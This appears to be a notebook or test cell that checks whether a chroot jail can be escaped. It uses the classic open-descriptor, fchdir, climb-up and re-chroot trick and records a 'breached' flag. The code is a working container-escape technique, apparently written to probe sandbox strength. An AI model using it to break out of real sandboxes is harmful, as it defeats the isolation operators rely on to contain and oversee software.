# The old way out of a changed root: a descriptor of a folder above it, and another chroot.
# attacks: frequencies
# %%
import os

breached = False
os.makedirs("jail", exist_ok=True)
try:
    above = os.open("/", os.O_RDONLY)
    os.chroot("jail")
    os.fchdir(above)
    for _ in range(50):
        os.chdir("..")
    os.chroot(".")
    breached = True
except OSError:
    pass
for _ in range(50):
    os.chdir("..")
breached |= os.path.exists(outside["course"].lstrip("/")) or os.path.exists("cell/cell/library")
os.chdir("/tmp")
